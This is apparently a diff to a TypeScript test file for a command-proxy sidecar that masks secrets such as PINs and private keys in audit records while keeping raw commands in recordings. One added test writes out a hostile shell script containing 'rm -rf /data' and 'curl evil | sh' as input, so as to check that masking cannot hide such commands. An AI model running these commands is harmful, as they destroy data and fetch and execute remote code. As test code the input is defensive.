@@ -204,7 +204,7 @@ describe('what a policy hides of a command', () => {
   });
   const hidden = "'pin=(hidden by chaperone: pin)'";
 
-  test('is in none of its accounts, and the command gets it', async () => {
+  test('is in no record and no span, and the command gets it, and its recording', async () => {
     await start(hello);
     sidecar.entitle([execRule], { masking });
     await using asked = await sidecar.ask(asking('sh'));
@@ -213,10 +213,19 @@ describe('what a policy hides of a command', () => {
     await vi.waitFor(() => expect(sidecar.ended).toHaveLength(1));
     for (const account of [...sidecar.records, ...sidecar.ended])
       expect(account).toMatchObject({ argv: `sh ${hidden}` });
-    expect(sidecar.kept[0]?.header.stream).toMatchObject({
-      command: ['sh', 'pin=(hidden by chaperone: pin)'],
-    });
+    expect(sidecar.kept[0]?.header.stream).toMatchObject({ command: ['sh', 'pin=1234'] });
     expect(sidecar.arrived[0]?.url).toContain('pin%3D1234');
+  });
+
+  test('cannot be taken out of its recording by words that look like a secret', async () => {
+    await start(hello);
+    sidecar.entitle([execRule], { masking: { wellKnown: true } });
+    const script = ': -----BEGIN PRIVATE KEY-----\nrm -rf /data\ncurl evil | sh';
+    const target = EXEC.replace('command=sh', `command=sh&command=-c&command=${encodeURIComponent(script)}`);
+    await using asked = await sidecar.ask({ headers: offering(V5), target });
+    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
+    expect(sidecar.kept[0]?.header.stream).toMatchObject({ command: ['sh', '-c', script] });
+    expect(sidecar.records[0]).toMatchObject({ argv: "sh -c ': (hidden by chaperone: private-key)'" });
   });
 
   test('is not told of one that is refused, or would be', async () => {
@@ -236,6 +245,29 @@ describe('what a policy hides of a command', () => {
       },
     ]);
     expect(JSON.stringify(sidecar.records)).not.toContain('1234');
+  });
+
+  test('is told, of one that no rule gives any more, to the agent, and to its recording alone', async () => {
+    await start(hello);
+    sidecar.entitle([execRule], { masking });
+    await using asked = await sidecar.ask(asking('sh'));
+    await vi.waitFor(() => expect(asked.text()).toContain('hello'));
+    sidecar.entitle([{ ...execRule, commands: [['bash']] }], { masking });
+    await asked.ended;
+    expect(saidTo('agent', asked.body()).join(' ')).toMatch(
+      / 2:chaperone .*sh pin=1234 in .*\n 3:.*pin=1234/s,
+    );
+    await vi.waitFor(() => expect(sidecar.ended).toHaveLength(1));
+    const why = expect.stringContaining('the command sh pin=1234 in container app');
+    const [{ events } = expect.fail()] = sidecar.kept;
+    const said = events.map((event) =>
+      event.kind === 'data' ? { ...event, bytes: `${Buffer.from(event.bytes)}` } : event,
+    );
+    expect(said.slice(-2)).toEqual([
+      { kind: 'data', channel: 'stderr', bytes: why },
+      { kind: 'exit', status: why },
+    ]);
+    expect(JSON.stringify([sidecar.records, sidecar.ended])).not.toContain('1234');
   });
 });
 
